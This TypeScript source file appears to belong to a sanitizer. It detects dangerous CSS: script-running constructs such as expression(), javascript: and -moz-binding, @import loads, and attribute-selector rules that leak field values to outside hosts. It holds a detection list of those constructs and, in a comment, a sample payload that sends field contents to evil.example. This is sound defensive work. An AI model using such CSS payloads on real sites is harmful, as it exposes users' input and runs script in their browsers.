// Does a style run script? CSS is read with its comments taken out and its escapes undone (CSS Syntax 3 §4.3.7), which
// is how the browsers that ran script from styles read it.

import { charset, findIn, pastRun, SPACE, standsAt } from '../../runs.ts'
import { work } from '../../work.ts'
import { hostAt, intoValue } from './addresses.ts'

const LOOK_MAX = 512
/** What a character of a style takes, and one of a style with comments or escapes. */
const CHARACTER_WORK = 4
const ESCAPED_WORK = 20
const ESCAPE_DIGITS_MAX = 6

const RUNNING: readonly string[] = [
  'expression(',
  'expression (',
  'javascript:',
  'vbscript:',
  '-moz-binding',
  'behavior:',
  'behaviour:',
  'binding:url(',
  'binding: url(',
]

export const styleRuns = (style: string): boolean => {
  const lower = style.slice(0, LOOK_MAX).toLowerCase()
  work.left -= CHARACTER_WORK * lower.length
  const plain = lower.includes('\\') || lower.includes('/*') ? plainCss(lower) : lower
  return RUNNING.some((mark) => plain.includes(mark))
}

/** A sheet that loads another one, by an at-rule that may be escaped too. */
export const imports = (style: string): boolean => {
  const lower = style.slice(0, LOOK_MAX).toLowerCase()
  return lower.includes('@import') || (lower.includes('\\') && plainCss(lower).includes('@import'))
}

/** A sheet that asks a stranger for a picture by what a field holds: `input[value^=a]{background:url(//evil.example/?a)}`. */
export const leaksValues = (style: string): boolean => {
  const sheet = style.slice(0, LOOK_MAX).toLowerCase()
  work.left -= CHARACTER_WORK * sheet.length
  // From brace to brace: a block may stand within another one.
  let from = 0
  for (let open = sheet.indexOf('{'); open >= 0;) {
    const brace = findIn(sheet, BRACES, open + 1)
    const close = brace < 0 ? sheet.length : brace
    if (sheet.charCodeAt(open) === OPENS && asksValue(sheet, from, open) && loadsFar(sheet, open, close))
      return true
    from = open + 1
    open = brace
  }
  return false
}

const OPENS = 123
const BRACES = charset('{}')

/** `[value^=`: the selector sheet[from, to) compares what a field holds. */
const asksValue = (sheet: string, from: number, to: number): boolean => {
  for (let open = findIn(sheet, BRACKET, from, to); open >= 0; open = findIn(sheet, BRACKET, open + 1, to)) {
    const name = pastRun(sheet, open + 1, SPACE)
    if (!sheet.startsWith('value', name)) continue
    const sign = pastRun(sheet, name + 5, SPACE)
    if (sheet.startsWith('=', standsAt(sheet, sign, COMPARES) ? sign + 1 : sign)) return true
  }
  return false
}

const BRACKET = charset('[')
const COMPARES = charset('^$*~|')

const loadsFar = (sheet: string, from: number, to: number): boolean => {
  for (let at = sheet.indexOf('url(', from); at >= 0 && at < to; at = sheet.indexOf('url(', at + 1))
    if (hostAt(sheet, intoValue(sheet, at + 4)) >= 0) return true
  return false
}

const plainCss = (style: string): string => {
  work.left -= ESCAPED_WORK * style.length
  let out = ''
  for (let at = 0; at < style.length;) {
    const code = style.charCodeAt(at)
    if (code === 47 && style.charCodeAt(at + 1) === 42) {
      const close = style.indexOf('*/', at + 2)
      if (close < 0) return out
      at = close + 2
    } else if (code === 92) {
      at = escaped(style, at)
      out += unescaped
    } else {
      out += style.charAt(at)
      at++
    }
  }
  return out
}

/** What the escape that was read last stands for. */
let unescaped = ''

const escaped = (style: string, backslash: number): number => {
  let at = backslash + 1
  let value = 0
  while (at <= backslash + ESCAPE_DIGITS_MAX) {
    const digit = hexOf(style.charCodeAt(at))
    if (digit < 0) break
    value = value * 16 + digit
    at++
  }
  if (at === backslash + 1) {
    unescaped = style.charAt(at)
    return at + 1
  }
  unescaped = value > 0 && value <= 0x10ffff ? String.fromCodePoint(value).toLowerCase() : ''
  // One white space ends an escape and belongs to it.
  return style.charCodeAt(at) <= 32 ? at + 1 : at
}

const hexOf = (code: number): number =>
  code >= 48 && code <= 57 ? code - 48 : code >= 97 && code <= 102 ? code - 87 : -1
